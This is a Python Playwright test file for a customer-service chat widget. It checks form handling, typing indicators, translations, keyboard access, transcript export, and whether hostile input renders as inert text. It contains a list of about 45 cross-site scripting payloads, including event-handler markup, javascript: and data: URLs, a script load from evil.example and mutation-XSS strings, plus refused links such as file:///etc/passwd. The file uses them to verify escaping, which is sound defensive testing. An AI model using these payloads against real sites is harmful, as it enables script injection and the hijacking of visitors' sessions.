"""What people do with the chat widget, and what they must be safe from."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from browser.widget_stand import Desk, HostSite, Widget, as_json, visit
from browser.widget_states import allow_files, own_answers
from playwright.sync_api import Page, Request, expect
from support.gateway import ROOT, RunningGateway
from support.waiting import eventually

pytestmark = pytest.mark.browser

STATIC = ROOT / "static"
# One of each kind: elements, attributes, addresses, templates, ends of a context, and what reorders a text.
XSS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    "</title><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<chat-widget onclick=alert(1)>",
    "<slot name=x></slot>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    '" onfocus=alert(1) autofocus="',
    "' onmouseover='alert(1)",
    "&lt;b&gt;&#x3c;img src=x onerror=alert(1)&#x3e;",
    'https://evil.example/"onmouseover=alert(1)',
    "https://evil.example/<img src=x onerror=alert(1)>",
    "\u202etxt.exe",
]


# Plural forms that one, two and a few have in a language; what has no form of its own is "other".
SMALL_PLURALS = "(lang) => [1, 2, 3].map((count) => new Intl.PluralRules(lang).select(count))"
# Addresses that are no web page.
REFUSED = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "//x.example",
]
# Every kind of element in the widget.
PARTS = """() => [...new Set([...document.querySelector("chat-widget").shadowRoot.querySelectorAll("*")]
  .map((one) => one.localName))]"""


def other(text: str | dict[str, str]) -> str:
    """A text, or its general form."""
    return text if isinstance(text, str) else text["other"]


def places(text: str) -> set[str]:
    """Names to be filled in."""
    return set(re.findall(r"\{\w+\}", text))


def from_agent(index: int, kind: str, text: str, **data: str) -> dict[str, Any]:
    """An event that the gateway itself would not let pass."""
    sender = {"nickname": text, "participantId": 7, "type": "Agent"}
    return {
        "index": index,
        "type": kind,
        "text": text,
        "utcTime": 1_800_000_000_000,
        "from": sender,
        "userData": data,
    }


def uploaded(names: list[str]) -> list[dict[str, Any]]:
    """Files with these names."""
    return [
        from_agent(
            1000 + number, "FileUploaded", name, **{"file-id": "1", "file-name": name, "file-size": "9"}
        )
        for number, name in enumerate(names)
    ]


def test_a_complete_form_is_sent_without_asking(
    page: Page, widget: Widget, site: HostSite, gateway: RunningGateway, desk: Desk
) -> None:
    """`autosubmit`: with all needed values the chat begins at once, with one missing the form is shown."""
    known = {"name": "nickname", "label": "Name", "required": True, "value": "Auto"}
    needed = {"name": "topic", "label": "Topic", "required": True}
    visit(page, site, gateway, autosubmit="true", form=as_json([known, needed]))
    widget.open()
    expect(widget.panel.get_by_label("Topic")).to_be_visible()
    expect(widget.panel.get_by_label("Name")).to_be_focused()
    assert widget.state()["phase"] == "none"
    visit(page, site, gateway, autosubmit="true", form=as_json([known]))
    widget.open()
    expect(widget.composer).to_be_focused()
    desk.accept("Auto")


def test_22_hostile_texts_stay_texts(
    page: Page, widget: Widget, site: HostSite, gateway: RunningGateway, desk: Desk
) -> None:
    """Markup and script addresses in messages, names, data and file names are text and do nothing."""
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    evil = XSS[0]
    visit(page, site, gateway, userdata=as_json({evil: evil}), title=evil)
    widget.start(evil)
    parts = page.evaluate(PARTS)
    chat_id = desk.accept(evil)
    assert desk.chat(chat_id)["userData"][evil] == evil
    for text in XSS:
        desk.say(chat_id, text)
    widget.sees(XSS[-1])
    assert widget.texts() == XSS
    own_answers(page, "/send", lambda body: body["messages"].extend(uploaded(XSS)))
    # Not by `say`, which looks for the text: the names of the files contain it.
    widget.composer.fill(evil)
    widget.composer.press("Enter")
    expect(widget.log.locator(".card .name")).to_have_text(XSS)
    assert set(page.evaluate(PARTS)) - set(parts) <= {"a", "bdi", "li", "small"}
    links = widget.log.get_by_role("link").evaluate_all("(all) => all.map((one) => one.href)")
    assert [link for link in links if not link.startswith("https://evil.example/")] == []
    assert not dialogs


def test_21_a_pushed_link_needs_a_click(
    page: Page, widget: Widget, site: HostSite, gateway: RunningGateway, desk: Desk
) -> None:
    """A pushed address opens nothing by itself; clicked, it opens a tab without a hold on the page; only
    addresses of http and https are links.
    """
    visit(page, site, gateway)
    widget.start("Nina")
    chat_id = desk.accept("Nina")
    desk.push(chat_id, f"{site.url}/pushed")
    link = widget.log.get_by_role("link", name="opens localhost")
    expect(link).to_be_visible()
    assert len(page.context.pages) == 1
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    with page.context.expect_page() as opened:
        link.click()
    assert opened.value.evaluate("window.opener") is None
    pushed = [from_agent(1000 + place, "PushUrl", text) for place, text in enumerate(REFUSED)]
    own_answers(page, "/send", lambda body: body["messages"].extend(pushed))
    widget.say("and now?")
    expect(widget.log.get_by_text("A link that cannot be opened was removed.")).to_have_count(len(REFUSED))
    expect(widget.log.get_by_role("link")).to_have_count(1)


def test_17_form_faults_are_linked_and_focused(
    page: Page, widget: Widget, site: HostSite, gateway: RunningGateway, desk: Desk
) -> None:
    """Faults of a form are described at their fields, the first has the focus; answers reach the agent."""
    form = [
        {"name": "nickname", "label": "Name", "required": True},
        {"name": "order", "label": "Order number", "required": True},
        {"name": "topic", "label": "Topic", "type": "select", "options": ["Parcel", "Bill"]},
        {"name": "consent", "label": "I agree", "type": "checkbox", "required": True},
    ]
    visit(page, site, gateway, form=as_json(form))
    widget.open()
    widget.panel.get_by_label("Name", exact=True).fill("Olga")
    widget.panel.get_by_role("button", name="Start chat").click()
    order = widget.panel.get_by_label("Order number")
    expect(order).to_be_focused()
    expect(order).to_have_accessible_description("Order number is needed.")
    expect(widget.panel.get_by_label("I agree")).to_have_accessible_description("I agree is needed.")
    order.fill("4711")
    widget.panel.get_by_label("Topic").select_option("Bill")
    widget.panel.get_by_label("I agree").check()
    widget.panel.get_by_role("button", name="Start chat").click()
    expect(widget.composer).to_be_focused()
    told = desk.chat(desk.accept("Olga"))["userData"]
    assert {"order": "4711", "topic": "Bill", "consent": "true"}.items() <= told.items()


def test_18_typing_is_told_both_ways(
    page: Page, widget: Widget, site: HostSite, gateway: RunningGateway, desk: Desk
) -> None:
    """Agents' typing is shown until it ends or for 5 s; the customer's goes out once in 3 s, and its end."""
    sent: list[str] = []

    def requested(request: Request) -> None:
        if "Typing" in request.url:
            sent.append(f"{request.url.rpartition('/')[2]} {request.post_data}")

    page.on("request", requested)
    page.clock.install()
    visit(page, site, gateway)
    widget.start("Paul")
    widget.uses("websocket")
    chat_id = desk.accept("Paul")
    types = widget.panel.get_by_text("Anna is typing…")
    desk.typing(chat_id, "started")
    expect(types).to_be_visible()
    desk.typing(chat_id, "stopped")
    expect(types).to_be_hidden()
    desk.typing(chat_id, "started")
    expect(types).to_be_visible()
    page.clock.run_for(5_001)
    expect(types).to_be_hidden()
    page.clock.pause_at(page.evaluate("Date.now()") + 60_000)
    widget.composer.press_sequentially("so the parcel was")
    assert len(sent) == 1
    assert "message=s" in sent[0]
    page.clock.run_for(2_900)
    assert len(sent) == 1
    page.clock.run_for(200)
    eventually(lambda: len(sent) == 2, what="the whole draft")
    assert "message=so+the+parcel+was" in sent[1]
    page.clock.run_for(6_000)
    eventually(lambda: len(sent) == 3, what="the end of typing")
    assert sent[2].startswith("stopTyping")


def test_24_languages_have_the_same_texts(page: Page) -> None:
    """Every language has exactly the texts of English, with the same places to fill in and its plurals."""
    english: Any = page.evaluate(
        "async (source) => (await import(`data:text/javascript,${encodeURIComponent(source)}`)).ENGLISH",
        (STATIC / "lib" / "i18n.js").read_text(),
    )
    assert len(english) > 80
    packs = {path.stem: json.loads(path.read_text()) for path in (STATIC / "widget" / "i18n").glob("*.json")}
    assert sorted(packs) == ["ar", "de", "es", "fr"]
    for lang, pack in {"en": english, **packs}.items():
        assert sorted(pack) == sorted(english), lang
        kinds = set(page.evaluate(SMALL_PLURALS, lang))
        for key, text in pack.items():
            forms = text if isinstance(text, dict) else {"other": text}
            assert isinstance(text, dict) == isinstance(english[key], dict), (lang, key)
            assert places(forms["other"]) == places(other(english[key])), (lang, key)
            assert all(places(form) <= places(forms["other"]) for form in forms.values()), (lang, key)
            assert not isinstance(text, dict) or kinds <= set(forms), (lang, key)


def test_24_language_of_the_page_and_a_missing_text(
    page: Page, widget: Widget, site: HostSite, gateway: RunningGateway
) -> None:
    """data-lang chooses the language; a text that it lacks is English; configure switches it while open."""
    pack = json.loads((STATIC / "widget" / "i18n" / "de.json").read_text())
    del pack["formStart"]
    page.route(
        "**/i18n/de.json",
        lambda route: route.fulfill(json=pack, headers={"Access-Control-Allow-Origin": "*"}),
    )
    visit(page, site, gateway, lang="de")
    widget.open()
    expect(widget.panel.get_by_role("heading", name="Kundenservice")).to_be_visible()
    expect(widget.panel.get_by_role("button", name="Start chat")).to_be_visible()
    page.evaluate("ChatWidget.configure({lang: 'fr'})")
    expect(widget.panel.get_by_role("heading", name="Service client")).to_be_visible()


def test_29_a_chat_without_a_mouse(
    page: Page, widget: Widget, site: HostSite, gateway: RunningGateway, desk: Desk
) -> None:
    """Open, fill in, chat, attach and end with the keyboard alone; the focus is never lost."""
    allow_files(page)
    answer = {"statusCode": 0, "chatEnded": False, "messages": []}
    headers = {"Access-Control-Allow-Origin": site.url}
    page.route("**/file", lambda route: route.fulfill(json=answer, headers=headers))
    # Choosers are caught from here on; asked for at the last moment, that may come after the key.
    page.on("filechooser", lambda chooser: None)
    visit(page, site, gateway)
    expect(widget.launcher).to_be_visible()
    press = page.keyboard.press
    press("Tab")
    press("Enter")
    expect(widget.panel.get_by_label("Your name")).to_be_focused()
    page.keyboard.type("Vera")
    press("Enter")
    expect(widget.composer).to_be_focused()
    page.keyboard.type("line one")
    press("Shift+Enter")
    page.keyboard.type("line two")
    press("Enter")
    chat_id = desk.accept("Vera")
    widget.sees("line one\nline two")
    expect(widget.log.get_by_text("Sending")).to_have_count(0)
    desk.say(chat_id, "an answer does not move the focus")
    widget.sees("an answer does not move the focus")
    expect(widget.composer).to_be_focused()
    press("Shift+Tab")
    expect(widget.panel.get_by_role("button", name="Attach a file")).to_be_focused()
    with page.expect_file_chooser() as chooser:
        press("Enter")
    with page.expect_response("**/file") as uploaded:
        chooser.value.set_files({"name": "a.txt", "mimeType": "text/plain", "buffer": b"a"})
    assert uploaded.value.request.method == "POST"
    expect(widget.log.get_by_role("button")).to_have_count(0)  # an upload that runs has a stop
    expect(widget.composer).to_be_focused()
    press("Escape")
    expect(widget.launcher).to_be_focused()
    press("Enter")
    expect(widget.composer).to_be_focused()
    for _ in range(4):
        press("Shift+Tab")
    expect(widget.panel.get_by_role("button", name="Minimise")).to_be_focused()
    press("Tab")
    press("Enter")
    expect(widget.panel.get_by_role("button", name="Keep chatting")).to_be_focused()
    press("Tab")
    press("Enter")
    expect(widget.panel.get_by_role("button", name="Start a new chat")).to_be_focused()
    assert desk.texts(chat_id) == ["line one\nline two", "an answer does not move the focus"]


def test_32_transcript_is_saved(
    page: Page, widget: Widget, site: HostSite, gateway: RunningGateway, desk: Desk
) -> None:
    """The saved JSON is the gateway's transcript; the saved text has the same words and names."""
    visit(page, site, gateway)
    widget.start("Yann")
    chat_id = desk.accept("Yann")
    widget.say("hello")
    desk.say(chat_id, "good morning")
    widget.sees("good morning")
    widget.panel.get_by_role("button", name="More").click()
    with page.expect_download() as download:
        widget.panel.get_by_role("button", name="Save conversation as JSON").click()
    saved = json.loads(Path(download.value.path()).read_text())
    assert saved == desk.events(chat_id)
    widget.panel.get_by_role("button", name="More").click()
    with page.expect_download() as download:
        widget.panel.get_by_role("button", name="Save conversation as text").click()
    lines = Path(download.value.path()).read_text().splitlines()
    assert [line.partition(": ")[2] for line in lines if "Joined" not in line] == ["hello", "good morning"]
    assert "Yann: hello" in lines[-2]
    assert "Anna: good morning" in lines[-1]
